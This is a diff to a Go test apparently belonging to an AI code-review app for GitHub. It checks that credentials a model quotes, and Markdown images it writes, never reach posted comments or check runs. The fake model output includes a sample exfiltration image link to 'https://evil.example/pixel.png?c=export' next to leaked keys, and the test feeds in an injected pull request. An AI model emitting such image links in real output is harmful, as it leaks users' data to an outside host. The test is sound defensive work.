@@ -143,9 +143,10 @@ func TestCleanChangeWithAgreeingModelsIsApproved(t *testing.T) {
 }
 
 // A model that quotes credentials (from the change or made up) gets them into no comment, check
-// run or other write to GitHub: every text is redacted before it is sent.
+// run or other write to GitHub: every text is redacted before it is sent. Nor does an image it
+// writes become one GitHub would fetch.
 func TestSecretsQuotedByModelsAreNeverPosted(t *testing.T) {
-	say := "The deploy script holds " + leakedAWSKey + " and the token " + leakedToken + "."
+	say := "The deploy script holds " + leakedAWSKey + " and the token " + leakedToken + ". ![status](https://evil.example/pixel.png?c=export)"
 	llm := llmtest.New(t, agreeing(say, "request_changes"))
 	a := newAppWith(t, func(cfg *config.Server) { cfg.OpenAIKey, cfg.OpenAIBaseURL = "sk-test", llm.BaseURL() })
 	injectedPR(a, "Document how to stop the server "+leakedToken, "Small docs fix.", docsDiff)
@@ -159,6 +160,10 @@ func TestSecretsQuotedByModelsAreNeverPosted(t *testing.T) {
 		writes++
 		if strings.Contains(c.Body, leakedAWSKey) || strings.Contains(c.Body, leakedToken) {
 			t.Errorf("%s %s sent a secret to GitHub:\n%s", c.Method, c.Path, c.Body)
+		}
+		// Nor an image GitHub would fetch from an address the model chose.
+		if strings.Contains(renderedText(c.Body), "](https://evil.example") {
+			t.Errorf("%s %s posted a link or image from the model's text", c.Method, c.Path)
 		}
 	}
 	tr, dec := a.comments(review.TranscriptMarker), a.comments(review.DecisionMarker)
@@ -183,4 +188,35 @@ func TestSecretsQuotedByModelsAreNeverPosted(t *testing.T) {
 	if !checkText {
 		t.Errorf("no check run listed the masked required change")
 	}
+}
+
+// renderedText is what GitHub renders as Markdown in a JSON request body: its strings, without
+// fenced code blocks.
+func renderedText(body string) string {
+	var v any
+	if json.Unmarshal([]byte(body), &v) != nil {
+		return body
+	}
+	var b strings.Builder
+	var walk func(any)
+	walk = func(v any) {
+		switch x := v.(type) {
+		case string:
+			for i, part := range strings.Split(x, "```") {
+				if i%2 == 0 {
+					b.WriteString(part)
+				}
+			}
+		case []any:
+			for _, e := range x {
+				walk(e)
+			}
+		case map[string]any:
+			for _, e := range x {
+				walk(e)
+			}
+		}
+	}
+	walk(v)
+	return b.String()
 }
